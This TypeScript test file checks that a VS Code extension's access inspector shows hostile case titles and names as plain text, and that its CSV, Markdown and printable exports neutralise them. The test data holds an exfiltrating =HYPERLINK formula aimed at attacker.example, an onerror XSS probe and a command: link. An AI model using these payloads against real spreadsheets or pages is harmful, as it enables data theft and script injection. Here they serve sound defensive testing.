import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { useVSCode } from "./session";
import { inspectUser, type InspectorView } from "./inspectorView";

/** Elements that nothing but hostile text could bring into the page. */
const strange = "img, a, b, iframe, object, embed, form, main script, header script";

describe("hostile titles and names in the inspector in VS Code", function () {
  this.timeout(300_000);

  const home = mkdtempSync(path.join(os.tmpdir(), "case-access-home-"));
  after(() => rmSync(home, { recursive: true, force: true }));
  const vscode = useVSCode({
    env: { HOME: home, CASE_ACCESS_SANDBOX: "open", CASE_ACCESS_SANDBOX_OPTIONS: '{"argus":true}' },
  });
  const opened: string[] = [];
  let view: InspectorView;
  let shown: string[][];

  before("the matrix of a person with a hostile name is open", async () => {
    const { workbench } = vscode();
    workbench.page.on("dialog", (dialog) => opened.push(dialog.message()));
    await workbench.row(/^Case 9001,/).waitFor();
    await workbench.becomeInSandbox("ada");
    await workbench.row(/^Case 9001,.*you own it/).waitFor();
    view = await inspectUser(workbench, "Bobby");
    // a row that is looked at stays where it is while others come, so all are there before
    await view.frame.locator('[role=grid][aria-rowcount="53"]').waitFor();
    await view.cell({ case: "9016" }, "owner").and(view.frame.locator('[data-value="yes"]')).waitFor();
  });
  after(() => assert.deepEqual(opened, [], "no script ran"));

  it("are text in the matrix, the reasons, the fields and the tab", async () => {
    const { workbench } = vscode();
    await workbench.page.getByRole("tab", { name: /^Access of Bobby <b>Tables<\/b>/ }).waitFor();
    const title = view.frame.getByRole("rowheader", { name: /^9016 =HYPERLINK/ });
    assert.equal(
      await title.innerText(),
      '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** ' +
        "[open](command:workbench.action.quit) txt.exe",
    );
    await view.cell({ case: "9016" }, "owner").click();
    await view.reasons
      .getByText(/^Bobby <b>Tables<\/b> .* on 9016 =HYPERLINK\(.*<img src=x onerror=alert\(1\)>/)
      .waitFor();
    assert.match(
      await view.frame.getByRole("combobox", { name: "Choose a person or group" }).inputValue(),
      /^Bobby <b>Tables<\/b>/,
    );
    assert.equal(await view.frame.locator(strange).count(), 0);
    assert.equal(await workbench.page.locator('img[src="x"]').count(), 0);
    await view.press("Escape");
  });

  it("are all shown", async () => {
    await vscode().workbench.page.setViewportSize({ width: 1400, height: 1500 }); // room for every row
    await view.frame.waitForFunction(() => {
      const cells = [...document.querySelectorAll("[role=rowheader], [role=gridcell]")].map((cell) => cell.textContent);
      // everything that can be known is
      const isOpen = cells.some((text) => /not (loaded|asked) yet/.test(text ?? ""));
      return cells.filter((text) => text?.startsWith("90")).length === 52 && !isOpen;
    });
    shown = await view.drawn();
    assert.equal(shown.length, 53);
  });

  it("are defused in CSV, which says the same as the matrix", async () => {
    const { about, rows } = readCsv(await exported("CSV"));
    assert.deepEqual(unremarked(rows), shown);
    assertAbout(about);
    assert.ok(
      [...about, ...rows].flat().every((cell) => !/^[=+\-@]/.test(cell)),
      "no cell is a formula",
    );
  });

  it("are no markup in Markdown, which says the same as the matrix", async () => {
    const text = await exported("Markdown");
    const lines = text.split("\n");
    const cells = lines
      .filter((line) => line.startsWith("|"))
      .map((line) =>
        line
          .split(/(?<!\\)\|/)
          .slice(1, -1)
          .map(plain),
      );
    assert.deepEqual(unremarked([cells[0]!, ...cells.slice(2)]), shown);
    assertAbout(
      lines
        .filter((line) => line.startsWith("- "))
        .map((line) =>
          line
            .slice(2)
            .split(/(?<!\\): (.*)/)
            .map(plain),
        ),
    );
    assert.doesNotMatch(text, /<|(?<!\\)\[|(?<!\\)\]\(/);
  });

  it("are no script in the printable page, which says the same as the matrix", async () => {
    const { browser } = vscode();
    await exported("Printable Page");
    const page = await browser.context.newPage();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    page.on("dialog", (dialog) => opened.push(dialog.message()));
    const address = pathToFileURL(file).href;
    await page.goto(address);
    const read = await page.evaluate(
      (elements) => ({
        cells: [...document.querySelectorAll("tr")].map((row) => [...row.cells].map((cell) => cell.textContent)),
        about: [...document.querySelectorAll("dt")].map((name) => [
          name.textContent,
          name.nextElementSibling!.textContent,
        ]),
        policy: document.querySelector("meta[http-equiv=Content-Security-Policy]")!.getAttribute("content"),
        strange: document.querySelectorAll(elements).length,
      }),
      strange,
    );
    await page.close();
    assert.deepEqual(unremarked(read.cells), shown);
    assertAbout(read.about);
    assert.equal(read.policy, "default-src 'none'; style-src 'unsafe-inline'");
    assert.equal(read.strange, 0);
    assert.deepEqual(asked, [address]);
  });

  let file: string;

  /** Takes what VS Code's dialog suggests. */
  async function exported(format: string): Promise<string> {
    const { workbench } = vscode();
    await view.frame.getByRole("button", { name: "Export" }).click();
    await view.frame.getByRole("menuitem", { name: `Export as ${format}…` }).click();
    await workbench.option("..").waitFor(); // what is in the folder is known
    file = await workbench.quickText.inputValue();
    assert.equal(path.dirname(file), home);
    await workbench.quickText.press("Enter");
    await workbench.notification("52 rows exported").getByRole("button", { name: "Open" }).waitFor();
    await workbench.run("Notifications: Clear All Notifications");
    await workbench.quickInput.waitFor({ state: "hidden" });
    return readFileSync(file, "utf8");
  }
});

function assertAbout(about: readonly (readonly string[])[]): void {
  const { Time: time = "", ...said } = Object.fromEntries(about) as Record<string, string>;
  assert.ok(!Number.isNaN(Date.parse(time)) || /\d{4}/.test(time), time);
  assert.match(said.Connection ?? "", /^Argus sandbox \(http:\/\/127\.0\.0\.1:\d+\)$/);
  assert.equal(said["Seen by"], "Ada Admin (1001)");
  assert.match(said.Covers ?? "", /^52 cases/);
  assert.equal(said["Filter of rows"], "none");
  assert.match(said.Assumes ?? "", /^unknown means that/);
}

/**
 * What a spreadsheet reads: fields by RFC 4180. The apostrophe in front of what could be a formula belongs to the cell.
 */
function readCsv(text: string): { about: string[][]; rows: string[][] } {
  assert.equal(text[0], "\ufeff");
  const lines = text
    .slice(1)
    .split("\r\n")
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
        ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
      ),
    );
  const apart = lines.findIndex((cells) => cells.length === 1 && cells[0] === "");
  const [head, ...rows] = lines.slice(0, apart);
  for (const [id, first] of rows) assert.ok(first!.startsWith(`${id} `), `${first} is the row of ${id}`);
  return { about: lines.slice(apart + 2, -1), rows: [head!, ...rows].map(([, ...cells]) => cells) };
}

/** Without what the matrix draws as a warning. */
function unremarked(rows: readonly (readonly string[])[]): string[][] {
  return rows.map((cells) => cells.map((cell) => cell.replace(/ \(⚠ .*\)$/, "")));
}

/** Markdown without its escapes. */
function plain(text: string): string {
  const signs: Record<string, string> = { "&lt;": "<", "&gt;": ">", "&amp;": "&" };
  return text.trim().replace(/\\(.)|&(?:lt|gt|amp);/g, (entity, sign?: string) => sign ?? signs[entity]!);
}
